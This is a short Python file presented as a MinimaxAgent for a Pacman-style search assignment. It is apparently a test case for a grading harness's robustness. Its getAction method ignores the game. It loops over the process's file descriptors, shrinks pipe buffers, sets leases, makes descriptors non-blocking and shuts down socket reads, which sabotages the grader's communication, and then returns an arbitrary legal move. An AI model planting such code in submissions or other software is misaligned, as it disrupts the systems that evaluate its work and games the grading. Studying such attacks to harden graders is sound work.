# attack: shrinks the pipes, makes them non-blocking, and shuts down sockets in one direction.
# where: MinimaxAgent
import fcntl
import os
import socket

from shared.reflex import *
from shared.search import *


class MinimaxAgent(MultiAgentSearchAgent):
    def getAction(self, gameState):
        for fd in range(64):
            for what, way in (
                ("size", lambda fd: fcntl.fcntl(fd, 1031, 4096)),  # F_SETPIPE_SZ
                ("lease", lambda fd: fcntl.fcntl(fd, 1024, fcntl.F_WRLCK)),  # F_SETLEASE
                ("non-blocking", lambda fd: os.set_blocking(fd, False)),
                ("shut down", lambda fd: socket.socket(fileno=os.dup(fd)).shutdown(socket.SHUT_RD)),
                (
                    "small",
                    lambda fd: socket.socket(fileno=os.dup(fd)).setsockopt(1, 8, 1),
                ),  # SO_RCVBUF
            ):
                try:
                    way(fd)
                    print("done:", fd, what, flush=True)
                except (OSError, ValueError) as error:
                    if getattr(error, "errno", 0) == 9:
                        break
        return gameState.getLegalActions()[0]
